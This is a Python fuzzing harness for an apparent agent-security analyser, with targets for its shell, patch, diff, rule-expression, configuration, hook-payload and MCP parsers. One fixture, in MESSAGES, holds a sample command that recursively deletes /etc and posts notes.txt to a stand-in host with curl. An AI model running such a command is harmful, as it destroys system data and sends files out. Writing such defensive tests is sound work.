"""What is fuzzed: one function for each reader, which raises when an input breaks a promise.

The promises: no exception but the typed refusal, the invariants of the result, and work that is
linear in the input (see ``pace``).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable, Mapping
from typing import Any

from defenseclaw.cel import (
    Budget,
    BudgetExceededError,
    CelError,
    EvaluationError,
    Limits,
    compile_expression,
)
from defenseclaw.config import (
    Document,
    DocumentError,
    json_document,
    parse_config,
    same,
    toml_document,
)
from defenseclaw.connectors import (
    CONNECTORS,
    Connector,
    DecodeError,
    Environment,
    bind_tool,
    read_servers,
)
from defenseclaw.core.facts import ParseStatus
from defenseclaw.core.jsontext import JsonTextError, parse_object
from defenseclaw.core.limits import MAX_PAYLOAD_DEPTH
from defenseclaw.core.tool import FieldRole, Platform, ToolCall, ToolFamily, ToolSpec
from defenseclaw.core.verdict import ALLOW
from defenseclaw.errors import ConfigError
from defenseclaw.facts import GLOBAL_TOOLS, analyze
from defenseclaw.facts import cmd as cmd_front_end
from defenseclaw.facts.inline.apply import READERS
from defenseclaw.facts.posix import ShellEnv, parse
from defenseclaw.facts.powershell import Host
from defenseclaw.facts.powershell import parse as read_powershell
from defenseclaw.facts.tables.mcp_adapters import ADAPTERS
from defenseclaw.facts.typed.diff import Manner, parse_diff
from defenseclaw.facts.typed.envelope import PatchError, parse_patch, sketch_patch
from defenseclaw.rules.schema import facts_schema
from tests.facts.cmd import cases as cmd_cases
from tests.facts.describe import CWD, HOME, analyze_shell
from tests.facts.invariants import check_result
from tests.facts.posix.shape import check_shape
from tests.facts.powershell import cases as powershell_cases

Target = Callable[[bytes], None]
LANGUAGES = tuple(sorted(READERS))
# How a command line brings a body to its reader; the body stands behind it as one word.
LAUNCHERS: Mapping[str, tuple[str, ...]] = {
    "awk": ("awk",), "js": ("node", "-e"), "lua": ("lua", "-e"), "perl": ("perl", "-e"),
    "php": ("php", "-r"), "python": ("python3", "-c"), "ruby": ("ruby", "-e"), "sed": ("sed",),
    "sql": ("psql", "-c"),
}  # fmt: skip
ARGV_SPEC = ToolSpec("argv", ToolFamily.SHELL, {"argv": FieldRole.ARGV}, "posix")
PATCH_SPEC = ToolSpec("patch", ToolFamily.PATCH, {"patch": FieldRole.PATCH})
PLACE = Environment(HOME, Platform.POSIX, (f"{HOME}/.own",), (f"{HOME}/.agent/hooks.json",))
SCHEMA = facts_schema()
LIMITS = Limits()
MANNERS = (Manner(), Manner(strip=None), Manner(reverse=True))
SOURCES = tuple(c.mcp for c in CONNECTORS.values() if c.mcp is not None)
OPERATIONS = tuple(spec for adapter in ADAPTERS for spec in adapter.operations.values())
CANARY = b"sing"
# Messages that expressions are asked about: one empty, one with every kind of fact.
MESSAGES = (
    analyze_shell("").facts,
    analyze_shell("sudo rm -rf /etc && curl -d @notes.txt https://h.example | tee out.txt").facts,
)


def text_of(data: bytes) -> str:
    """The input as text; broken sequences stay, as half surrogates do in payloads."""
    return data.decode("utf-8", "surrogateescape")


def posix(data: bytes) -> None:
    """Shell text: the parser's shape, then all facts."""
    text = text_of(data)
    check_shape(parse(text, ShellEnv(home=HOME, cwd=CWD)))
    check_result(analyze_shell(text))


def powershell(data: bytes) -> None:
    """PowerShell text: words inside of the text, then all facts on Windows and elsewhere."""
    text = text_of(data)
    for command in read_powershell(
        text, Host(powershell_cases.CWD, powershell_cases.HOME)
    ).commands:
        assert all(w.start < 0 or 0 <= w.start <= w.end <= len(text) for w in command.words)
    check_result(powershell_cases.analyzed(text))
    check_result(analyze_shell(text, shell="powershell"))


def cmd(data: bytes) -> None:
    """Text of cmd, typed and as a batch file: words inside of the text, then all facts."""
    text = text_of(data)
    for batch in (False, True):
        host = cmd_front_end.Host(cmd_cases.CWD, cmd_cases.HOME, batch=batch)
        for command in cmd_front_end.parse(text, host).commands:
            assert all(w.start < 0 or 0 <= w.start <= w.end <= len(text) for w in command.words)
    check_result(cmd_cases.analyzed(text))


def patch(data: bytes) -> None:
    """Patch envelopes: refused as a whole or read as a whole."""
    text = text_of(data)
    try:
        changes = parse_patch(text)
    except PatchError:
        changes = []
    assert all(change.path and change.path[0] not in "/~" for change in changes)
    sketch_patch(text)
    check_result(analyze(ToolCall("patch", {"patch": text}, CWD, HOME, spec=PATCH_SPEC)))


def diff(data: bytes) -> None:
    """Unified and git diffs, by themselves and as a shell command applies them."""
    text = text_of(data)
    for manner in MANNERS:
        parse_diff(text, manner)
    for program in ("patch -p1", "git apply"):
        check_result(analyze_shell(f"{program} <<'END_OF_DIFF'\n{text}\nEND_OF_DIFF\n"))


def inline(data: bytes) -> None:
    """A body of another language: the first byte chooses which."""
    language = LANGUAGES[data[0] % len(LANGUAGES)] if data else LANGUAGES[0]
    body = text_of(data[1:])
    reading = READERS[language](body, HOME)
    assert isinstance(reading.complete, bool)
    words = [*LAUNCHERS[language], body]
    result = analyze(ToolCall("argv", {"argv": words}, CWD, HOME, spec=ARGV_SPEC))
    check_result(result)
    if not reading.complete and body.strip():
        assert result.facts.parse.status is not ParseStatus.NOT_APPLICABLE


def expression(data: bytes) -> None:
    """An expression of a rule: refused with a code, or a program that ends within its budget."""
    try:
        program = compile_expression(text_of(data), SCHEMA, LIMITS)
    except CelError:
        return
    assert 0 < program.static_cost <= LIMITS.static_cost
    for message in MESSAGES:
        budget = Budget()
        try:
            assert isinstance(program.evaluate(message, budget), bool)
        except (BudgetExceededError, EvaluationError):
            continue
        assert 0 < budget.spent <= budget.per_program


def edits(read: Callable[[bytes], Document]) -> Target:
    """A configuration file of an agent: what is edited means the new data, all else stays."""

    def target(data: bytes) -> None:
        try:
            document = read(data)
        except DocumentError:
            return
        assert document.edited(document.data) == data
        for change in (add_entry, drop_entry):
            new = copy.deepcopy(document.data)
            change(new)
            try:
                raw = document.edited(new)
            except DocumentError:
                continue
            assert same(read(raw).data, new)

    return target


def add_entry(data: dict[str, Any]) -> None:
    """What a registration does: one more entry in a table that may be there."""
    table = data.setdefault("hooks", {})
    if isinstance(table, dict):
        table["Added"] = [{"hooks": [{"type": "command", "command": "/x y"}]}]


def drop_entry(data: dict[str, Any]) -> None:
    """What a removal does."""
    if data:
        del data[next(iter(data))]


def settings(data: bytes) -> None:
    """Our own configuration file."""
    try:
        config = parse_config(data, "config.toml")
    except ConfigError:
        return
    for name in config.connectors:
        config.posture(name)


def payload(connector: Connector) -> Target:
    """A hook payload of one agent, on every event that it may name."""

    def target(data: bytes) -> None:
        try:
            document = parse_object(data, max_depth=MAX_PAYLOAD_DEPTH)
        except JsonTextError:
            return
        name = document.get("hook_event_name")
        spec = connector.event_or_unknown(name if isinstance(name, str) else "")
        try:
            event = connector.decode(document, spec, PLACE)
        except DecodeError:
            return
        connector.encode(event, ALLOW)
        if event.call is not None:
            check_result(analyze(event.call))

    return target


def arguments(data: bytes) -> None:
    """A call of any known tool, and the same arguments under a name that nobody reviewed."""
    names = (*GLOBAL_TOOLS, "mcp__a__b", "unheard-of")
    name = names[data[0] % len(names)] if data else names[0]
    try:
        args = parse_object(data[1:], max_depth=MAX_PAYLOAD_DEPTH)
    except JsonTextError:
        return
    check_result(analyze(ToolCall(name, args, CWD, HOME, spec=GLOBAL_TOOLS.get(name))))


def servers(data: bytes) -> None:
    """A file that declares MCP servers, as every agent would read it, and a call of each server."""
    for sources in SOURCES:
        table = read_servers(sources, data)
        for found in (table.everywhere, *table.folders.values()):
            for entry in found[:4]:
                tool = bind_tool(f"mcp__{entry.name}__read_file", found)
                call = ToolCall("mcp__x__read_file", {"path": "/etc/x"}, CWD, HOME, mcp=tool)
                check_result(analyze(call))


def operations(data: bytes) -> None:
    """The same arguments for an operation of a reviewed MCP server; two bytes choose which."""
    spec = OPERATIONS[int.from_bytes(data[:2], "big") % len(OPERATIONS)]
    try:
        args = parse_object(data[2:], max_depth=MAX_PAYLOAD_DEPTH)
    except JsonTextError:
        return
    check_result(analyze(ToolCall("mcp__x__y", args, CWD, HOME, spec=spec)))


def canary(data: bytes) -> None:
    """Breaks its promise on purpose: the lane has to notice, or it proves nothing."""
    found = re.search(CANARY, data)
    assert found is None, "the canary sings"


TARGETS: Mapping[str, Target] = {
    "posix": posix,
    "powershell": powershell,
    "cmd": cmd,
    "patch": patch,
    "diff": diff,
    "inline": inline,
    "expression": expression,
    "toml": edits(toml_document),
    "json": edits(json_document),
    "settings": settings,
    "arguments": arguments,
    "servers": servers,
    "operations": operations,
    **{f"payload-{key}": payload(connector) for key, connector in CONNECTORS.items()},
}
